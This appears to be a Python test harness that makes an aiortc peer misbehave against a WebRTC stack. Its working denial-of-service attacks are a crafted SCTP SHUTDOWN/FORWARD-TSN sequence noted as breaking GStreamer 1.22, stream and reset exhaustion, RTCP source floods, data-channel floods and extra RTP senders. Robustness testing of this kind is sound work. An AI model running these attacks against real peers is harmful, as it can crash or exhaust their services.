# SPDX-License-Identifier: LGPL-2.1-or-later
"""What a hostile peer sends once it is connected, with aiortc's own means.

  shutdown  data for a new stream behind an SCTP SHUTDOWN: GStreamer 1.22 takes that for impossible
  streams   data on a thousand streams
  resets    a stream that is closed and used again, a hundred times
  sources   RTCP reports of two thousand sources
  flood     a thousand messages on a data channel, as fast as they go
  videos    RTP packets of seven more senders: too few to be thrown out for their number
"""
import asyncio
import struct

from aiortc.rtcsctptransport import DataChunk, ForwardTsnChunk, ShutdownChunk, StreamResetOutgoingParam

STREAM, STREAMS, RESETS, SOURCES, VIDEOS, MESSAGES = 50, 1000, 100, 2000, 8, 1000
VP8 = 97  # aiortc's payload type
PAUSE_S = 0.002
CONNECTED_S = 10


async def no_sack():
    """Instead of RTCSctpTransport._send_sack."""


def data(tsn, stream, number):
    chunk = DataChunk(flags=3)  # a whole message, in order
    chunk.tsn, chunk.stream_id, chunk.stream_seq = tsn, stream, number
    chunk.protocol, chunk.user_data = 51, b"hello"
    return chunk


async def shutdown(sctp):
    """What waits for a message before it is let go when that is given up, after the SHUTDOWN."""
    tsn = sctp._local_tsn
    await sctp._send_chunk(data(tsn + 1, STREAM, 1))
    await asyncio.sleep(0.2)
    end = ShutdownChunk()
    # While something of the other side is not acknowledged it does not answer the SHUTDOWN.
    end.cumulative_tsn = (sctp._last_received_tsn - 3) & 0xFFFFFFFF
    await sctp._send_chunk(end)
    await asyncio.sleep(0.1)
    forward = ForwardTsnChunk()
    forward.cumulative_tsn, forward.streams = tsn, [(STREAM, 0)]
    await sctp._send_chunk(forward)
    sctp._local_tsn = tsn + 2


async def streams(sctp):
    for i in range(STREAMS):
        await sctp._send_chunk(data(sctp._local_tsn + i, STREAM + i, 0))
        await asyncio.sleep(PAUSE_S)


async def resets(sctp):
    for i in range(RESETS):
        await sctp._send_chunk(data(sctp._local_tsn + i, STREAM, 0))
        await sctp._send_reconfig_param(StreamResetOutgoingParam(
            request_sequence=sctp._reconfig_request_seq + i, response_sequence=sctp._reconfig_response_seq,
            last_tsn=sctp._local_tsn + i, streams=[STREAM]))
        await asyncio.sleep(10 * PAUSE_S)


async def sources(sctp):
    for source in range(1, SOURCES):
        report = struct.pack("!BBHI", 0x80, 201, 1, source)
        name = struct.pack("!BBHI", 0x81, 202, 2, source) + b"\x01\x01a\x00"
        await sctp.transport._send_rtp(report + name)
        await asyncio.sleep(PAUSE_S)


async def videos(sctp):
    for source in range(1, VIDEOS):
        for number in range(3):
            header = struct.pack("!BBHII", 0x80, VP8, number, 3000 * number, source)
            await sctp.transport._send_rtp(header + b"\x10" + bytes(20))
        await asyncio.sleep(PAUSE_S)


async def flood(sctp):
    channels = sctp._data_channels.values()
    while not any(channel.readyState == "open" for channel in channels):
        await asyncio.sleep(PAUSE_S)
    channel = next(channel for channel in channels if channel.readyState == "open")
    for _ in range(MESSAGES):
        channel.send("x")


ATTACKS = {"shutdown": shutdown, "streams": streams, "resets": resets, "sources": sources, "flood": flood,
           "videos": videos}


def prepare(name, peer):
    """Before the peer connects."""
    if name == "shutdown":
        peer.sctp._send_sack = no_sack


async def launch(name, peer):
    """Once it is connected. Ends early where the other side has enough of it."""
    for _ in range(int(CONNECTED_S / PAUSE_S)):
        if peer.sctp.state == "connected":
            break
        await asyncio.sleep(PAUSE_S)
    try:
        await ATTACKS[name](peer.sctp)
    except ConnectionError:
        pass
    peer.sctp.__dict__.pop("_send_sack", None)
